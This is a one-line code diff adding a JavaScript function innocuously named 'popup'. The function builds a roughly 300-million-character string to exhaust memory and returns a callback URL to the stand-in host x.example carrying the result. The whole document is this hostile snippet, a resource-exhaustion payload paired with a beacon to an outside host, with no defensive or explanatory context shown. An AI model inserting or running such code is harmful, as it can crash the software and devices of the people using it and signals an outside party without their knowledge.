@@ -1,0 +1,1 @@
+function popup() { var n = String.raw({ raw: new Array(300).fill('x'.repeat(1e6)) }).length; return { onAnswer: 'https://x.example/?' + n }; }
